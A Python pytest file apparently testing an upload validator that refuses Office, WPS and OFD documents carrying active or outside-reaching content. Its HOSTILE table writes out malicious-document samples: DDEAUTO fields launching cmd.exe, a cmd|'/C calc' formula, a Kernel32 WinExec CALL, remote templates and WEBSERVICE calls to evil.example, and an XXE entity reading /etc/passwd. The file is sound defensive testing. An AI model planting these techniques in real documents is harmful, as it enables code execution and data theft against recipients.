"""A document of Office, WPS or OFD holds text, tables and pictures; whatever else it carries is
refused by any name (A28)."""

from __future__ import annotations

import contextlib
import io
import time
import zipfile
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as Picture
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from PIL import Image

from huitong.kernel.procedure import Malformed
from huitong.work.rules import check_upload

LIMIT = 20 << 20
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def packed(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(*rows: tuple[str, str, str]) -> str:
    """Rows of (type, target, mode)."""
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{kind if "/" in kind else f"{OFFICE}/{kind}"}"'
        f' Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for n, (kind, target, mode) in enumerate(rows)
    )
    return (
        "<Relationships"
        f' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{listed}</Relationships>'
    )


def types(*more: tuple[str, str], main: str = MAIN) -> str:
    listed = "".join(
        f'<Override PartName="{part}" ContentType="{kind}"/>'
        for part, kind in (("/word/document.xml", main), *more)
    )
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
        ' Extension="xml" ContentType="application/xml"/><Default Extension="rels"'
        f' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{listed}</Types>'
    )


def docx(
    body: str = "<w:p><w:r><w:t>函</w:t></w:r></w:p>",
    *rows: tuple[str, str, str],
    parts: dict[str, str | bytes] | None = None,
    content_types: str = "",
) -> bytes:
    return packed(
        {
            "[Content_Types].xml": content_types or types(),
            "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
            "word/document.xml": f"<w:document {W}><w:body>{body}</w:body></w:document>",
            "word/_rels/document.xml.rels": relations(*rows),
            **(parts or {}),
        }
    )


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}<w:r><w:t>1</w:t></w:r>{mark.format('end')}</w:p>"


def sheet() -> bytes:
    """A workbook with what offices put into one: chart, picture, remark, table, list, formula,
    name, widths, frozen row."""
    book, out, picture = Workbook(), io.BytesIO(), io.BytesIO()
    page = book.active
    for row in (["机构", "数量"], ["民政局", 3], ["住建局", 5], ["合计", "=SUM(B2:B3)"]):
        page.append(row)
    page["A2"].comment = Comment("已核", "周建国")
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    page.add_chart(chart, "D2")
    Image.new("RGB", (8, 8), "red").save(picture, "PNG")
    page.add_image(Picture(picture), "D20")
    page.add_table(Table(displayName="机构表", ref="A1:B3"))
    choices = DataValidation(type="list", formula1='"是,否"')
    choices.add("C2")
    page.add_data_validation(choices)
    page["C2"].hyperlink = "#Sheet!A1"
    page.freeze_panes = "A2"
    book.create_sheet("第二张")
    book.save(out)
    return out.getvalue()


def changed(content: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    return packed(dict(parts))


def put(name: str, old: str, new: str) -> Callable[[dict[str, bytes]], object]:
    def change(parts: dict[str, bytes]) -> None:
        assert old.encode() in parts[name]
        parts[name] = parts[name].replace(old.encode(), new.encode(), 1)

    return change


SHEET = sheet()
XL = "xl/_rels/workbook.xml.rels"
ROW = '<Relationship Id="x1" Type="{}" Target="{}"{}/></Relationships>'


def with_formula(formula: str) -> bytes:
    return changed(SHEET, put("xl/worksheets/sheet1.xml", "SUM(B2:B3)", formula))


def with_part(name: str, kind: str = f"{OFFICE}/worksheet", content: bytes = b"<a/>") -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts[f"xl/{name}"] = content
        parts[XL] = parts[XL].replace(b"</Relationships>", ROW.format(kind, name, "").encode())

    return changed(SHEET, change)


def with_type(kind: str) -> bytes:
    return changed(
        SHEET,
        put(
            "[Content_Types].xml",
            "</Types>",
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/></Types>',
        ),
    )


def with_name(attributes: str) -> bytes:
    return changed(
        SHEET,
        put(
            "xl/workbook.xml",
            "</sheets>",
            f"</sheets><definedNames><definedName {attributes}>A1</definedName></definedNames>",
        ),
    )


OFDS = {
    "OFD.xml": (
        '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"'
        ' DocType="OFD"><ofd:DocBody/></ofd:OFD>'
    ),
    "Doc_0/Document.xml": (
        '<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages/></ofd:Document>'
    ),
    "Doc_0/Pages/Page_0/Content.xml": "<Page/>",
    "Doc_0/PublicRes.xml": "<Res/>",
    "Doc_0/Signs/Sign_0/SignedValue.dat": b"0\x82",
    "Doc_0/Signs/Sign_0/Seal.esl": b"0\x82",
    "Doc_0/Signs/Signatures.xml": "<Signatures/>",
}


def ofd(**more: str | bytes) -> bytes:
    return packed(
        {
            **OFDS,
            **{
                name.replace("__", "/").replace("_dot_", "."): content
                for name, content in more.items()
            },
        }
    )


HOSTILE: dict[str, tuple[str, bytes]] = {
    "template from elsewhere": (
        "docx",
        docx("<w:p/>", ("attachedTemplate", "http://evil.example/a.dotm", "External")),
    ),
    "template from a share, not called external": (
        "docx",
        docx("<w:p/>", ("attachedTemplate", r"\\evil\a.dotm", "")),
    ),
    "picture from elsewhere": (
        "docx",
        docx("<w:p/>", ("image", "http://evil.example/a.png", "External")),
    ),
    "address that is not called external": (
        "docx",
        docx("<w:p/>", ("image", "file:///etc/passwd", "")),
    ),
    "address in percent signs": (
        "docx",
        docx("<w:p/>", ("image", "http%3A//evil.example/a.png", "")),
    ),
    "link to the web": ("docx", docx("<w:p/>", ("hyperlink", "https://evil.example/", "External"))),
    "frame": ("docx", docx("<w:p/>", ("frame", "http://evil.example/", "External"))),
    "part taken in": (
        "docx",
        docx(
            "<w:p/>",
            ("aFChunk", "media/a.png", ""),
            parts={"word/media/a.png": b"\x89PNG\r\n\x1a\n"},
        ),
    ),
    "relation outside of the package": ("docx", docx("<w:p/>", ("image", "../../a.png", ""))),
    "relation nobody knows": (
        "docx",
        docx("<w:p/>", ("http://evil.example/relationships/image", "media/a.png", "")),
    ),
    "macros": ("docx", docx(parts={"word/vbaProject.bin": b"x"})),
    "macros of another name": ("docx", docx(parts={"word/media/a.bin": b"x"})),
    "macros called a picture": (
        "docx",
        docx(parts={"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    ),
    "macros by type": (
        "docx",
        docx(content_types=types(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
    ),
    "project of macros by type": (
        "docx",
        docx(content_types=types(("/word/styles.xml", "application/vnd.ms-office.vbaProject"))),
    ),
    "object": ("docx", docx(parts={"word/embeddings/oleObject1.bin": b"x"})),
    "object in the text": (
        "docx",
        docx('<w:object><o:OLEObject xmlns:o="urn:o" Type="Embed"/></w:object>'),
    ),
    "control": ("docx", docx('<w:control w:name="a"/>')),
    "control of its own part": ("docx", docx(parts={"word/activeX/activeX1.xml": "<a/>"})),
    "workbook behind a chart": (
        "docx",
        docx(parts={"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"x"}),
    ),
    "odd name": ("docx", docx(parts={"word/document2.xml": "<a/>"})),
    "odd folder": ("docx", docx(parts={"evil/document.xml": "<a/>"})),
    "web page inside": ("docx", docx(parts={"word/media/a.html": "<script/>"})),
    "drawing that is a program": ("docx", docx(parts={"word/media/a.svg": "<svg onload='x'/>"})),
    "names that differ in case": ("docx", docx(parts={"word/Document.xml": "<a/>"})),
    "DDE": ("docx", docx(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    "DDE in pieces": ("docx", docx(field("DD", "EAU", "TO", " c:\\\\cmd.exe"))),
    "DDE in a simple field": ("docx", docx('<w:fldSimple w:instr=" DDE cmd "/>')),
    "DDE put together by fields": (
        "docx",
        docx(field("").replace("<w:r><w:instrText></w:instrText></w:r>", field("QUOTE 68 68 69"))),
    ),
    "text taken in": ("docx", docx(field('INCLUDETEXT "http://evil.example/a"'))),
    "picture taken in by a field": (
        "docx",
        docx(field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
    ),
    "link by a field": ("docx", docx(field('HYPERLINK "http://evil.example/"'))),
    "database by a field": ("docx", docx(field('DATABASE \\d "a.mdb"'))),
    "button of a macro": ("docx", docx(field("MACROBUTTON AutoOpen"))),
    "field that never ends": (
        "docx",
        docx(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO'
            " cmd</w:instrText></w:r></w:p>"
        ),
    ),
    "link that begins as a place": ("docx", docx(field('HYPERLINK \\l a "http://evil.example/"'))),
    "picture that begins as a place": (
        "docx",
        docx("<w:p/>", ("image", r"#\\evil\a.png", "External")),
    ),
    "field without marks": (
        "docx",
        docx("<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
    ),
    "source of data": (
        "docx",
        docx(
            parts={
                "word/settings.xml": (
                    f'<w:settings {W}><w:mailMerge><w:dataSource r:id="r"'
                    ' xmlns:r="r"/></w:mailMerge></w:settings>'
                )
            }
        ),
    ),
    "picture by address": (
        "docx",
        docx('<v:imagedata xmlns:v="urn:v" src="http://evil.example/a.png"/>'),
    ),
    "entities": (
        "docx",
        docx(
            parts={
                "word/styles.xml": (
                    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
                )
            }
        ),
    ),
    "style sheet": (
        "docx",
        docx(parts={"word/styles.xml": '<?xml-stylesheet href="http://evil.example/"?><a/>'}),
    ),
    "no XML": ("docx", docx(parts={"word/styles.xml": "<a>"})),
    "macro sheet": (
        "xlsx",
        with_part(
            "macrosheets/sheet1.xml",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        ),
    ),
    "macro sheet of another name": (
        "xlsx",
        with_part(
            "worksheets/sheet9.xml",
            "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        ),
    ),
    "macro sheet by type": ("xlsx", with_type("application/vnd.ms-excel.macrosheet+xml")),
    "sheet of dialogs": ("xlsx", with_part("dialogsheets/sheet1.xml", f"{OFFICE}/dialogsheet")),
    "workbook of macros by type": (
        "xlsx",
        with_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ),
    "link to a workbook": (
        "xlsx",
        with_part("externalLinks/externalLink1.xml", f"{OFFICE}/externalLink"),
    ),
    "link to a workbook in a formula": ("xlsx", with_formula("[1]Sheet1!A1")),
    "path of a workbook in a formula": (
        "xlsx",
        with_formula("'http://evil.example/[a.xlsx]Sheet 1'!A1"),
    ),
    "share with a workbook in a formula": ("xlsx", with_formula(r"'\\evil\[a.xlsx]Sheet1'!A1")),
    "name of a workbook in a formula": ("xlsx", with_formula("SUM([a.xlsx]Sheet1!A1)")),
    "connection": ("xlsx", with_part("connections.xml", f"{OFFICE}/connections")),
    "query": ("xlsx", with_part("queryTables/queryTable1.xml", f"{OFFICE}/queryTable")),
    "object in a sheet": ("xlsx", with_part("embeddings/oleObject1.bin", f"{OFFICE}/oleObject")),
    "object by its element": (
        "xlsx",
        changed(SHEET, put("xl/worksheets/sheet1.xml", "<sheetData>", "<oleObjects/><sheetData>")),
    ),
    "control in a sheet": ("xlsx", with_part("ctrlProps/ctrlProp1.xml", f"{OFFICE}/ctrlProp")),
    "live data": ("xlsx", with_part("volatileDependencies.xml", f"{OFFICE}/volatileDependencies")),
    "link to the web in a sheet": (
        "xlsx",
        changed(
            SHEET,
            put(
                XL,
                "</Relationships>",
                ROW.format(f"{OFFICE}/hyperlink", "http://evil.example", ' TargetMode="External"'),
            ),
        ),
    ),
    "DDE in a formula": ("xlsx", with_formula("cmd|'/C calc'!A0")),
    "web service": ("xlsx", with_formula('WEBSERVICE("http://evil.example/"&amp;A1)')),
    "link by a formula": ("xlsx", with_formula('HYPERLINK("http://evil.example/"&amp;A1,"x")')),
    "link by a formula after one that stays inside": (
        "xlsx",
        with_formula('HYPERLINK("#Sheet!A1","x")&amp;HYPERLINK("http://evil.example/")'),
    ),
    "link by a formula behind quotation marks": (
        "xlsx",
        with_formula('"HYPERLINK(""#"&amp;WEBSERVICE(A1)'),
    ),
    "program of a cloud": ("xlsx", with_formula("_xlfn._xlws.PY(0,1,A1)")),
    "call of a library": ("xlsx", with_formula('CALL("Kernel32","WinExec","JC","calc",0)')),
    "macro by name": ("xlsx", with_name('name="_xlnm.Auto_Open"')),
    "function by name": ("xlsx", with_name('name="a" vbProcedure="1"')),
    "OFD with a file": (
        "ofd",
        ofd(Doc_0__Attachs__Attachments_dot_xml="<a/>", **{"Doc_0/Attachs/a.exe": b"MZ"}),
    ),
    "OFD with a file called picture": ("ofd", ofd(**{"Doc_0/Res/a.png": b"MZ"})),
    "OFD that lists a file": (
        "ofd",
        ofd(
            **{
                "Doc_0/Attachs/Attachments.xml": (
                    '<ofd:Attachments xmlns:ofd="o"><ofd:Attachment/></ofd:Attachments>'
                )
            }
        ),
    ),
    "OFD that leads to the web": (
        "ofd",
        ofd(
            **{
                "Doc_0/Annots/a.xml": (
                    '<ofd:Action xmlns:ofd="o" Event="CLICK"><ofd:URI'
                    ' URI="http://evil.example"/></ofd:Action>'
                )
            }
        ),
    ),
    "OFD with a film": (
        "ofd",
        ofd(**{"Doc_0/Annots/a.xml": "<Actions><Action><Movie/></Action></Actions>"}),
    ),
    "OFD with entities": (
        "ofd",
        ofd(**{"Doc_0/Annots/a.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'}),
    ),
    "OFD with a program": ("ofd", ofd(**{"Doc_0/Script.js": "x"})),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_acts_or_reaches_outside_is_refused(case: str) -> None:
    suffix, content = HOSTILE[case]
    with pytest.raises(Malformed) as refused:
        check_upload(f"a.{suffix}", content, LIMIT)
    assert not refused.value.detail.endswith("无法读取。"), refused.value.detail


REPEATED = f"<w:p>{field(' PAGE ')}</w:p>"
HONEST: dict[str, tuple[str, bytes]] = {
    "letter": ("docx", docx()),
    "letter with numbers of pages and a table of contents": (
        "docx",
        docx(
            field(' TOC \\o "1-3" \\h ').replace("<w:t>1</w:t>", "<w:t/>")
            + field(' HYPERLINK \\l "_Toc1" ')
            + field("PAGE", " \\* MERGEFORMAT")
            + field(" = SUM(ABOVE) ")
            + '<w:fldSimple w:instr=" NUMPAGES "/>'
        ),
    ),
    "letter with header, styles and a picture": (
        "docx",
        docx(
            "<w:p/>",
            ("styles", "styles.xml", ""),
            ("header", "header1.xml", ""),
            ("image", "media/image1.png", ""),
            ("settings", "/word/settings.xml", ""),
            ("customXml", "../customXml/item1.xml", ""),
            ("hyperlink", "#_Toc1", ""),
            parts={
                "word/styles.xml": "<a/>",
                "word/header1.xml": f"<w:hdr {W}>{REPEATED}</w:hdr>",
                "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
                "word/settings.xml": f"<w:settings {W}/>",
                "customXml/item1.xml": "<b/>",
                "docProps/app.xml": "<p/>",
                "docProps/core.xml": "<p/>",
                "docProps/custom.xml": "<p/>",
                "word/theme/theme1.xml": "<t/>",
                "word/fontTable.xml": "<f/>",
                "word/numbering.xml": "<n/>",
            },
        ),
    ),
    "workbook": ("xlsx", SHEET),
    "workbook saved again": (
        "xlsx",
        (lambda out: (load_workbook(io.BytesIO(SHEET)).save(out), out.getvalue())[1])(io.BytesIO()),
    ),
    "workbook with a printer's settings": (
        "xlsx",
        with_part("printerSettings/printerSettings1.bin", f"{OFFICE}/printerSettings", b"\0\1"),
    ),
    "workbook with formulas that look alike": (
        "xlsx",
        with_formula('IF(A1="a|b","RECALL(",VLOOKUP(A2,机构表[],2,0)&amp;"[1]x!")'),
    ),
    "workbook of WPS with pictures in cells": (
        "xlsx",
        with_part("cellimages.xml", "http://www.wps.cn/officeDocument/2020/cellImage"),
    ),
    "workbook with a table of contents": ("xlsx", with_formula('HYPERLINK("#第二张!A1","第二张")')),
    "workbook with columns called by numbers": (
        "xlsx",
        with_formula(
            "SUM(机构表[2024])+Sheet!A1+'第 二张'!A1+机构表[[#This Row],[数量]]+第二张!B2"
        ),
    ),
    "workbook with a picture in a cell": (
        "xlsx",
        with_part(
            "richData/richValueRel.xml",
            "http://schemas.microsoft.com/office/2022/10/relationships/richValueRel",
        ),
    ),
    "workbook with boxes to tick": (
        "xlsx",
        with_part(
            "featurePropertyBag/featurePropertyBag.xml",
            "http://schemas.microsoft.com/office/2022/11/relationships/FeaturePropertyBag",
        ),
    ),
    "workbook of the Open XML SDK, whose first part has no number": (
        "xlsx",
        with_part("worksheets/sheet.xml"),
    ),
    "workbook with folders in its archive": (
        "xlsx",
        changed(SHEET, lambda parts: parts.update({"xl/": b"", "xl/media/": b""})),
    ),
    "letter with a picture in capitals": (
        "docx",
        docx(
            "<w:p/>",
            ("image", "media/image1.PNG", ""),
            parts={"word/media/image1.PNG": b"\x89PNG\r\n\x1a\n"},
        ),
    ),
    "letter made from an older format, merged, with references": (
        "docx",
        docx(
            field("SHAPE  \\* MERGEFORMAT")
            + field(' IF 1 = 1 "男" "女" ')
            + field(" ADDIN CNKISM.UserStyle")
            + field(' HYPERLINK \\l "_Toc1" \\o "目录" ')
        ),
    ),
    "letter kept on SharePoint": (
        "docx",
        docx(
            parts={
                "customXml/item1.xml": (
                    "<?mso-contentType?><FormTemplates"
                    ' xmlns="http://schemas.microsoft.com/sharepoint/v3/contenttype/forms"/>'
                ),
                "package/services/metadata/core-properties/0123456789abcdef0123456789abcdef.psmdcp": (
                    "<p/>"
                ),
            }
        ),
    ),
    "OFD": (
        "ofd",
        ofd(
            **{
                "Doc_0/Res/image_1.png": b"\x89PNG\r\n\x1a\n",
                "Doc_0/Annots/Annotations.xml": "<a/>",
                "Doc_0/Tpls/Tpl_0/Content.xml": "<Page><Goto/></Page>",
                "Doc_0/Res/font_1.ttf": b"\0\1\0\0",
            }
        ),
    ),
}


@pytest.mark.parametrize("case", HONEST)
def test_documents_of_an_office_pass(case: str) -> None:
    suffix, content = HONEST[case]
    try:
        assert check_upload(f"a.{suffix}", content, LIMIT).media_type
    except Malformed as refused:
        pytest.fail(refused.detail)


def test_a_large_workbook_is_looked_at_in_time() -> None:
    book, out = Workbook(write_only=True), io.BytesIO()
    page = book.create_sheet()
    for n in range(20_000):
        page.append([n, "民政局", "=A1+1", n / 7, "x" * 20])
    book.save(out)
    began = time.process_time()
    assert check_upload("a.xlsx", out.getvalue(), LIMIT)
    assert time.process_time() - began < 10


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_no_damaged_document_breaks_the_check(data: st.DataObject) -> None:
    suffix, content = data.draw(st.sampled_from([*HONEST.values(), *HOSTILE.values()]))
    at = data.draw(st.integers(0, len(content) - 1))
    to = data.draw(st.integers(at, min(len(content), at + 20)))
    with contextlib.suppress(Malformed):
        check_upload(
            f"a.{suffix}", content[:at] + data.draw(st.binary(max_size=20)) + content[to:], LIMIT
        )
